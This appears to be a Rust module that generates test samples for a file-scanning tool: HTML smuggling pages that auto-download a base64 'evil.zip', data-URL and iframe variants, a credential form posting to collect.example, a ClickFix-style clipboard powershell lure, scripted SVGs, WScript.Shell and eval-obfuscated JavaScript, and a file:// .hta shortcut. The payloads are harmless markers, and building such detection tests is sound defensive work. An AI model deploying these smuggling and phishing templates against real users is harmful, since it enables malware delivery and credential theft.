//! Pages, pictures and scripts: plain and smuggling HTML, forms, SVG, JavaScript, and text in every usual encoding.

use crate::bits::{utf16be, utf16le};
use crate::{eicar, marker, payload, zip};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;

/// A page with this head and body.
pub fn page(title: &str, head: &str, body: &str) -> Vec<u8> {
    format!("<!DOCTYPE html>\n<html lang=\"en\">\n<head><meta charset=\"utf-8\"><title>{title}</title>{head}</head>\n<body>\n{body}\n</body>\n</html>\n")
        .into_bytes()
}

/// A plain page with a link, a harmless inline script and the marker.
pub fn plain(seed: &str) -> Vec<u8> {
    let body = format!(
        "<h1>A plain page</h1>\n<p>{}</p>\n<p><a href=\"https://www.example.com/\">A link</a></p>\n\
         <script>document.title = 'A plain page';</script>",
        marker(seed)
    );
    page("A plain page", "", &body)
}

/// HTML smuggling: a script decodes `file` from base64, makes a Blob of it and downloads it as `name`.
pub fn smuggling(name: &str, file: &[u8]) -> Vec<u8> {
    let script = format!(
        "<script>\nvar packed = \"{}\";\nvar text = atob(packed);\nvar bytes = new Uint8Array(text.length);\n\
         for (var i = 0; i < text.length; i++) {{ bytes[i] = text.charCodeAt(i); }}\n\
         var blob = new Blob([bytes], {{ type: \"application/octet-stream\" }});\n\
         var link = document.createElement(\"a\");\nlink.href = URL.createObjectURL(blob);\nlink.download = \"{name}\";\n\
         document.body.appendChild(link);\nlink.click();\n</script>",
        STANDARD.encode(file)
    );
    page("Your document", "", &format!("<p>Your document is being prepared.</p>\n{script}"))
}

/// The same with the base64 text in pieces of 40 characters that the script joins.
pub fn smuggling_split(name: &str, file: &[u8]) -> Vec<u8> {
    let encoded = STANDARD.encode(file);
    let pieces: Vec<String> = encoded
        .as_bytes()
        .chunks(40)
        .map(|c| format!("\"{}\"", String::from_utf8_lossy(c)))
        .collect();
    let script = format!(
        "<script>\nvar pieces = [{}];\nvar text = atob(pieces.join(\"\"));\nvar bytes = Uint8Array.from(text, c => c.charCodeAt(0));\n\
         var link = document.createElement(\"a\");\nlink.href = URL.createObjectURL(new Blob([bytes]));\nlink.download = \"{name}\";\nlink.click();\n</script>",
        pieces.join(",\n")
    );
    page("Your document", "", &script)
}

/// A link that carries `file` in a `data:` URL.
pub fn data_url(kind: &str, name: &str, file: &[u8]) -> Vec<u8> {
    let link = format!(
        "<a download=\"{name}\" href=\"data:{kind};base64,{}\">Your document</a>",
        STANDARD.encode(file)
    );
    page("Your document", "", &link)
}

/// A form with a password field that posts to `action`.
pub fn credential_form(action: &str, seed: &str) -> Vec<u8> {
    let form = format!(
        "<h1>Sign in to continue</h1>\n<!-- {} -->\n<form method=\"post\" action=\"{action}\">\n<input type=\"email\" name=\"user\" value=\"person@example.com\">\n\
         <input type=\"password\" name=\"password\">\n<button>Sign in</button>\n</form>",
        marker(seed)
    );
    page("Sign in", "", &form)
}

/// An SVG picture with this element inside.
pub fn svg(element: &str) -> Vec<u8> {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" height=\"100\">\n\
         <circle cx=\"50\" cy=\"50\" r=\"40\"/>\n{element}\n</svg>\n"
    )
    .into_bytes()
}

/// A page and a script and a text of each kind: name, bytes; the marker of each is `marker(<name up to the first dot>)`.
pub fn samples() -> Vec<(&'static str, Vec<u8>)> {
    let zip_of = |seed: &str| zip::simple(&[("evil.txt", &payload(seed))]);
    let text = |seed: &str| format!("Line one, with \u{e9} and \u{20ac}.\r\n{}\r\nLine three.\r\n", marker(seed));
    let svg_blob = format!(
        "<script type=\"text/javascript\"><![CDATA[\nvar text = atob(\"{}\");\nvar blob = new Blob([Uint8Array.from(text, c =&gt; c.charCodeAt(0))]);\n\
         location.href = URL.createObjectURL(blob);\n]]></script>",
        STANDARD.encode(zip_of("h03-svg"))
    );
    let frame = STANDARD.encode(smuggling("evil.zip", &zip_of("html-nested-frame")));
    let numbers = |text: String| text.chars().map(|c| format!("&#{};", u32::from(c))).collect::<String>();
    let script = |seed: &str| format!("var a = '{}';", marker(seed));
    vec![
        (
            "svg-entity.svg",
            format!(
                "<!DOCTYPE svg [<!ENTITY a \"{}\">]>\n<svg xmlns=\"http://www.w3.org/2000/svg\">&a;</svg>\n",
                numbers(format!("<script>{}</script>", script("svg-entity")))
            )
            .into_bytes(),
        ),
        (
            "xhtml-prefix.xhtml",
            format!(
                "<x:html xmlns:x=\"http://www.w3.org/1999/xhtml\"><x:body><x:script>{}</x:script></x:body></x:html>\n",
                numbers(script("xhtml-prefix"))
            )
            .into_bytes(),
        ),
        ("html-plain.html", plain("html-plain")),
        ("h01-smuggling.html", smuggling("evil.zip", &zip_of("h01-smuggling"))),
        (
            "html-smuggling-split.html",
            smuggling_split("evil.zip", &zip_of("html-smuggling-split")),
        ),
        (
            "html-smuggling-eicar.html",
            smuggling("evil.zip", &zip::simple(&[("eicar.com", &eicar())])),
        ),
        ("html-smuggling-utf16.html", {
            let text = String::from_utf8(smuggling("evil.zip", &zip_of("html-smuggling-utf16"))).unwrap_or_default();
            [
                b"\xff\xfe".as_slice(),
                &utf16le(&text.replace("charset=\"utf-8\"", "charset=\"utf-16\"")),
            ]
            .concat()
        }),
        (
            "h02-data-url.html",
            data_url("application/zip", "evil.zip", &zip_of("h02-data-url")),
        ),
        (
            "html-nested-frame.html",
            page("A frame", "", &format!("<iframe src=\"data:text/html;base64,{frame}\"></iframe>")),
        ),
        (
            "html-form-elsewhere.html",
            credential_form("https://collect.example/post", "html-form-elsewhere"),
        ),
        ("html-form-own.html", credential_form("/login", "html-form-own")),
        ("html-refresh.html", {
            let head = "<meta http-equiv=\"refresh\" content=\"0; url=file://server.example/share/page.url\">";
            page("Moving", head, &marker("html-refresh"))
        }),
        ("html-clickfix.html", {
            let script = format!(
                "<p>Press Win+R, then Ctrl+V, then Enter.</p>\n<script>navigator.clipboard.writeText(\"powershell -Command echo {}\");</script>",
                marker("html-clickfix")
            );
            page("Are you a person?", "", &script)
        }),
        (
            "svg-clean.svg",
            svg(&format!("<text x=\"1\" y=\"90\">{}</text>", marker("svg-clean"))),
        ),
        (
            "svg-script.svg",
            svg(&format!("<script>alert('{}');</script>", marker("svg-script"))),
        ),
        (
            "svg-handler.svg",
            svg(&format!(
                "<rect width=\"9\" height=\"9\" onload=\"alert('{}')\"/>",
                marker("svg-handler")
            )),
        ),
        ("h03-svg.svg", svg(&svg_blob)),
        (
            "js-clean.js",
            format!(
                "'use strict';\n// {}\nexport function add(a, b) {{\n  return a + b;\n}}\n",
                marker("js-clean")
            )
            .into_bytes(),
        ),
        ("js-wsh.js", {
            let run = "var shell = new ActiveXObject(\"WScript.Shell\");\nshell.Run(\"cmd.exe /c echo harmless test\", 0, false);\n";
            format!("// {}\n{run}", marker("js-wsh")).into_bytes()
        }),
        ("js-eval.js", {
            let codes: Vec<String> = format!("var x = '{}';", marker("js-eval")).bytes().map(|b| b.to_string()).collect();
            format!("eval(String.fromCharCode({}));\n", codes.join(",")).into_bytes()
        }),
        ("text-utf8.txt", text("text-utf8").into_bytes()),
        (
            "text-utf8-bom.txt",
            [b"\xef\xbb\xbf".as_slice(), text("text-utf8-bom").as_bytes()].concat(),
        ),
        (
            "text-utf16le-bom.txt",
            [b"\xff\xfe".as_slice(), &utf16le(&text("text-utf16le-bom"))].concat(),
        ),
        (
            "text-utf16be-bom.txt",
            [b"\xfe\xff".as_slice(), &utf16be(&text("text-utf16be-bom"))].concat(),
        ),
        ("text-utf16le.txt", utf16le(&text("text-utf16le"))),
        ("text-utf16be.txt", utf16be(&text("text-utf16be"))),
        (
            "text-latin1.txt",
            text("text-latin1").replace('\u{20ac}', "EUR").chars().map(|c| c as u8).collect(),
        ),
        ("text-base64.txt", STANDARD.encode(zip_of("text-base64")).into_bytes()),
        (
            "url-shortcut.url",
            format!(
                "[InternetShortcut]\r\nURL=file://server.example/share/page.hta\r\n; {}\r\n",
                marker("url-shortcut")
            )
            .into_bytes(),
        ),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_smuggled_file_comes_back_and_its_marker_is_not_visible() {
        let file = zip::simple(&[("evil.txt", &payload("s"))]);
        let text = String::from_utf8(smuggling("evil.zip", &file)).unwrap();
        assert_eq!(
            STANDARD
                .decode(text.split('"').find(|part| part.starts_with("UEsDB")).unwrap())
                .unwrap(),
            file
        );
        assert!(!text.contains("AIRLOCK-TEST"));
    }
}
